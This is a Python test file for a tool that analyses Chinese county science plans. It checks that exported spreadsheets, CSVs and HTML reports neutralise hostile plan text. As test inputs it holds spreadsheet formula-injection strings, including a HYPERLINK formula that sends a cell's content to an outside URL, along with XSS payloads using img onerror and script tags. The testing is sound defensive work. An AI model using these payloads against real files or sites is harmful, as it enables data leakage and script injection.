"""Nothing injected: plan text never becomes a formula in the files staff open, nor markup in the
report; unmapped units never crash an analysis; the CLI stays linear and quiet in a pipe."""

from __future__ import annotations

import re
import subprocess
import sys
import warnings
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from browser import CHROMIUM, SKIP_REASON, Browser
from handmade import sample_corpus

from sciplan_analysis import cli
from sciplan_analysis.corpus import RAW_DIR, load_plan
from sciplan_analysis.report.escape import html_text, markdown_text, neutralise_frame
from sciplan_analysis.report.export import write_tables
from sciplan_analysis.report.notebooks import Page, index_html
from sciplan_analysis.report.style import text_table
from sciplan_analysis.tables import Corpus

PROJECT = Path(__file__).resolve().parent.parent
EVIL_HTML = "<img src=x onerror=alert(7)>县"
FORMULAS = ['=HYPERLINK("http://x/?"&A1,"c")', "+1+2", "-3+4", "@SUM(A1)", "\t=1+1", "\r=2+2"]


def hostile_corpus() -> Corpus:
    corpus = sample_corpus()
    corpus.plans.loc[0, "name_zh"] = FORMULAS[0]
    corpus.plans.loc[1, "name_zh"] = EVIL_HTML
    corpus.tasks.loc[0, "title"] = FORMULAS[1]
    corpus.tasks.loc[1, "title"] = FORMULAS[2]
    corpus.assignments.loc[0, "unit_raw"] = FORMULAS[3]
    corpus.targets.loc[0, "quote"] = FORMULAS[4]
    corpus.commitments.loc[0, "quote"] = FORMULAS[5]
    return corpus


# -- spreadsheets ------------------------------------------------------------------------------
def _as_shown(value: object) -> object:
    """A cell's text as Excel shows it: OOXML escapes a control character as _xHHHH_ (Excel
    itself writes a CR so) and openpyxl returns the escape as stored."""
    if not isinstance(value, str):
        return value
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m.group(1), 16)), value)


def formula_cells(workbook: Path) -> dict[str, str]:
    """{formula-like text: sheet} of every cell holding one, each checked to be a text cell
    shown as typed (quote prefix); no cell of the workbook is a formula, in openpyxl's reading
    or in the sheets' XML."""
    book = openpyxl.load_workbook(workbook)
    shown = {}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if _as_shown(cell.value) in FORMULAS:
                    assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
                    shown[_as_shown(cell.value)] = sheet.title
    with zipfile.ZipFile(workbook) as parts:
        for name in parts.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in parts.read(name) and b"<f " not in parts.read(name), name
    return shown


def test_workbook_and_csv_hold_no_live_formulas(tmp_path):
    corpus = hostile_corpus()
    kept = {name: df.copy() for name, df in corpus.tables().items()}
    write_tables(corpus, tmp_path, extra=False, quiet=True)
    shown = formula_cells(tmp_path / "sciplan_tables.xlsx")
    assert set(shown) == set(FORMULAS)  # the cells show the text as it is
    plans = pd.read_csv(tmp_path / "plans.csv", encoding="utf-8-sig")
    assert plans.loc[0, "name_zh"] == "'" + FORMULAS[0]
    assert plans.loc[1, "name_zh"] == EVIL_HTML
    tasks = pd.read_csv(tmp_path / "tasks.csv", encoding="utf-8-sig")
    assert list(tasks.title[:2]) == ["'" + FORMULAS[1], "'" + FORMULAS[2]]
    units = pd.read_csv(tmp_path / "assignments.csv", encoding="utf-8-sig")
    assert units.unit_raw[0] == "'" + FORMULAS[3]
    raw_csv = (tmp_path / "targets.csv").read_text(encoding="utf-8-sig")
    assert "'\t=1+1" in raw_csv
    # the data keep the text: Parquet files and the tables in memory
    assert pd.read_parquet(tmp_path / "plans.parquet").loc[0, "name_zh"] == FORMULAS[0]
    assert pd.read_parquet(tmp_path / "commitments.parquet").loc[0, "quote"] == FORMULAS[5]
    for name, df in corpus.tables().items():
        pd.testing.assert_frame_equal(df, kept[name])


def test_a_table_left_out_of_the_workbook_stays_neutralised(tmp_path, monkeypatch):
    """Beyond a sheet's rows a table is left out of the workbook (export.SHEET_ROWS, patched
    small): what is left holds no formula, and the table's CSV is still neutralised."""
    from sciplan_analysis.report import export

    corpus = hostile_corpus()
    monkeypatch.setattr(export, "SHEET_ROWS", len(corpus.tasks))  # tasks: one row too many
    write_tables(corpus, tmp_path, extra=False, quiet=True)
    shown = formula_cells(tmp_path / "sciplan_tables.xlsx")
    assert set(shown) == set(FORMULAS) - {FORMULAS[1], FORMULAS[2]}  # the tasks' titles
    assert "tasks" not in shown.values()
    tasks = pd.read_csv(tmp_path / "tasks.csv", encoding="utf-8-sig")
    assert list(tasks.title[:2]) == ["'" + FORMULAS[1], "'" + FORMULAS[2]]
    assert pd.read_parquet(tmp_path / "tasks.parquet").title[0] == FORMULAS[1]


def test_neutralise_leaves_numbers_and_missing_values_alone():
    df = pd.DataFrame({"text": ["-1", "ok", None, "=x", "="], "n": [-1, 2, 3, 4, 5],
                       "y": pd.array([2025, None, 1, 2, 3], dtype="Int64")})
    out = neutralise_frame(df)
    assert out["text"].tolist() == ["'-1", "ok", None, "'=x", "="]
    pd.testing.assert_frame_equal(out[["n", "y"]], df[["n", "y"]])
    assert df["text"].tolist() == ["-1", "ok", None, "=x", "="]
    clean = pd.DataFrame({"text": ["a", "b"]})
    assert neutralise_frame(clean) is clean


# -- HTML --------------------------------------------------------------------------------------
def test_text_table_escapes_plan_text():
    table = pd.DataFrame({"plan": [EVIL_HTML, "乐至县"], EVIL_HTML: ["<b>x</b>", "a & b"]})
    page = text_table(table).to_html()
    assert "<img" not in page and "<b>x</b>" not in page
    assert "&lt;img src=x onerror=alert(7)&gt;县" in page and "a &amp; b" in page


def test_index_page_escapes_titles_summaries_and_failures(tmp_path):
    from sciplan_analysis.report.notebooks import CellFailure

    html_page = tmp_path / "01.html"
    page = Page(tmp_path / "01.ipynb", html_page, EVIL_HTML, f"summary {EVIL_HTML}", 1.0, [],
                CellFailure("01.ipynb", 3, EVIL_HTML, f"KeyError: {EVIL_HTML}"))
    # findings given (none), so the index reads no corpus: not the checkout's data/processed/
    text = index_html([page], tmp_path / "sciplan_tables.xlsx", tmp_path / "figures", found=[],
                      n_plans=1)
    assert "<img" not in text and text.count("&lt;img src=x onerror=alert(7)&gt;县") >= 3


def test_markdown_helper_keeps_plan_names_literal():
    from nbconvert.filters.markdown_mistune import markdown2html_mistune

    for name in (EVIL_HTML, "[link](javascript:alert(1))", "**bold** _x_ `c` $x^2$ # h",
                 "a <script>alert(1)</script>"):
        rendered = markdown2html_mistune(f"方案：{markdown_text(name)}")
        assert "<img" not in rendered and "<script" not in rendered and "<a " not in rendered
        assert "<strong>" not in rendered and "<em>" not in rendered and "<code>" not in rendered
    assert html_text('"<x>"') == "&quot;&lt;x&gt;&quot;"


# -- unmapped units ----------------------------------------------------------------------------
def test_category_lead_table_with_an_unmapped_lead_unit():
    """Right after `add`, a lead unit may be missing from the crosswalk: unit_en is NA."""
    from sciplan_analysis.analysis.workload import category_lead_table

    corpus = sample_corpus()
    a = corpus.assignments
    a.loc[0, ["unit_raw", "unit", "unit_en"]] = ["县新设局", "县新设局", pd.NA]
    zh = category_lead_table(corpus, lang="zh")
    en = category_lead_table(corpus, lang="en")
    assert zh.shape == en.shape
    assert any("县新设局" in str(v) for v in zh.to_numpy().ravel())


# -- the command line --------------------------------------------------------------------------
def many_tasks(n_groups: int, per_group: int) -> str:
    lines = ["某县全民科学素质行动实施方案", "一、提升行动"]
    for g in range(1, n_groups + 1):
        lines.append(f"（{g}）第{g}项提升行动")
        for t in range(1, per_group + 1):
            lines.append(f"{t}.开展第{t}项工作。组织活动。〔牵头单位：县教育局；责任单位：县科协〕")
    return "\n".join(lines) + "\n"


def test_parse_summary_does_not_query_per_task(write_text, monkeypatch):
    path = write_text(many_tasks(5, 8))
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        corpus = load_plan(path)
    expected = {}
    for t in corpus.tasks.itertuples():
        a = corpus.assignments[corpus.assignments.task_id == t.task_id]
        expected[t.task_id] = (a[a.role == "lead"].unit_raw.tolist(),
                               a[a.role == "partner"].unit_raw.tolist())

    def no_query(*args, **kwargs):
        raise AssertionError("DataFrame.query per task: quadratic")

    monkeypatch.setattr(pd.DataFrame, "query", no_query)
    summary = cli._summary(corpus)
    got = {t["task_id"]: (t["lead"], t["partners"]) for g in summary["groups"] for t in g["tasks"]}
    assert got == expected and len(got) >= 40


@pytest.mark.parametrize("extra", [[], ["--json"]])
def test_parse_into_a_closed_pipe_exits_quietly(tmp_path, extra):
    path = tmp_path / "long.txt"
    path.write_text(many_tasks(40, 40), encoding="utf-8")  # output far beyond a pipe's buffer
    proc = subprocess.Popen([sys.executable, "-m", "sciplan_analysis", "parse", str(path), *extra],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, cwd=PROJECT)
    proc.stdout.readline()
    proc.stdout.close()  # what `| head -1` does
    stderr = proc.stderr.read().decode("utf-8", "replace")
    proc.wait(timeout=300)
    assert "Traceback" not in stderr and "BrokenPipeError" not in stderr, stderr
    assert proc.returncode in (0, 1)


def test_real_plan_csvs_need_no_neutralising():
    """The five plans hold no formula-like text: the CSVs of `build` are unchanged by it."""
    from sciplan_analysis.corpus import parse_manifest

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        corpus = parse_manifest(RAW_DIR)
    for df in corpus.tables().values():
        assert neutralise_frame(df) is df


# --------------------------------------------------------------------------- a hostile plan, in the browser

HOSTILE_NAME = '<img src=x onerror="document.documentElement.dataset.pwned=1">县'
HOSTILE_EN = "<script>document.documentElement.dataset.pwned=2</script> County"


@pytest.mark.costly
@pytest.mark.skipif(CHROMIUM is None, reason=SKIP_REASON)
def test_a_hostile_plan_name_stays_text_on_every_page(tmp_path):
    """A plan whose names are markup, added and reported: every page shows them as text and
    Chromium runs none of it; the workbook shows a formula-like field as text. Beside one
    real plan, its parent's (Chongqing's fragment): every pair the pages and findings name
    is one with the hostile plan in it, and the build costs a fraction of six plans'."""
    import shutil

    from sciplan_analysis.config import NOTEBOOKS_DIR
    from sciplan_analysis.corpus import load_corpus
    from sciplan_analysis.report.notebooks import build_report

    raw, processed = tmp_path / "raw", tmp_path / "processed"
    raw.mkdir()
    shutil.copy(RAW_DIR / "chongqing.txt", raw)
    header, *rows = (RAW_DIR / "plans.csv").read_text(encoding="utf-8").splitlines()
    (raw / "plans.csv").write_text("\n".join([header, *[r for r in rows if r.startswith("chongqing,")]])
                                   + "\n", encoding="utf-8")
    shutil.copy(Path(__file__).parent / "fixtures" / "layouts" / "circled.txt", raw / "hostile.txt")
    with (raw / "plans.csv").open("a", encoding="utf-8", newline="") as f:
        pd.DataFrame([{"plan_id": "hostile", "file": "hostile.txt", "name_zh": HOSTILE_NAME,
                       "name_en": HOSTILE_EN, "admin_level": "county",
                       "province": '=HYPERLINK("http://x/?"&A1,"c")', "parent": "重庆市",
                       "status": "draft"}]).to_csv(f, header=False, index=False)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        write_tables(load_corpus(raw, processed, refresh=True), processed, quiet=True)
    notebooks = tmp_path / "notebooks"
    notebooks.mkdir()
    # one page is enough: every page shows plan names through the same helpers (report.page),
    # which this page uses for its findings, tables, chart titles, captions and alt text
    shutil.copy(NOTEBOOKS_DIR / "01_corpus_overview.ipynb", notebooks)
    out = tmp_path / "reports"
    build_report(notebooks, out, raw_dir=raw, processed_dir=processed, log=lambda line: None)

    from bs4 import BeautifulSoup

    with Browser(tmp_path / "chrome") as browser:
        doms = {}
        for page in sorted(out.glob("*.html")):
            browser.open(page)
            browser.evaluate("new Promise(done => setTimeout(done, 200))")  # let any timer run
            doms[page] = browser.dom()
    for page, html in doms.items():
        dom = BeautifulSoup(html, "lxml")
        assert dom.html is not None, f"{page.name} did not load"
        assert not dom.html.has_attr("data-pwned"), f"{page.name}: the plan's markup ran"
        assert not dom.find_all(attrs={"onerror": True}), f"{page.name}: an <img onerror> from plan text"
        assert not [s for s in dom.find_all("script") if "pwned" in (s.string or "")], page.name
        assert "onerror" in dom.get_text() or page.name != "01_corpus_overview.html", \
            "the hostile name should be shown, as text"
    book = openpyxl.load_workbook(out / "sciplan_tables.xlsx")
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row
             if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert all(c.data_type != "f" for c in cells)
